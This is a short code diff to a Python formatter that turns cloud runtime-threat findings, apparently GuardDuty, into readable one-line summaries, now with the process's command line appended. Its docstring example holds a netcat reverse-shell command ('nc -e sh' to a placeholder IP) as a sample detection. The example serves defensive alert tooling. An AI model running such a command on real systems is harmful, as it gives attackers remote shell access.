@@ -53,12 +53,13 @@ def facts(finding: Finding) -> tuple[Fact, ...]:
 
 
 def line(finding: Finding) -> str:
-    """Return `/tmp/.x/nc (pid 4242) as www-data, started by bash`."""
+    """Return `/tmp/.x/nc (pid 4242) as www-data, started by bash: nc -e sh 203.0.113.9`."""
     process = _process(finding)
+    command = told(look(guardduty_service(finding), "runtimeDetails/context"), "commandLineExample")
     what = first_told(process, "executablePath", "path", "name")
     started_by = listed((told(one, "name") for one in each(process, "lineage")), 2)
     who = joined(what, said("(pid ", told(process, "pid"), ")"), said("as ", told(process, "user")))
-    return joined(who, said("started by ", started_by), by=", ")
+    return joined(joined(who, said("started by ", started_by), by=", "), command, by=": ")
 
 
 def _process(finding: Finding) -> Any:
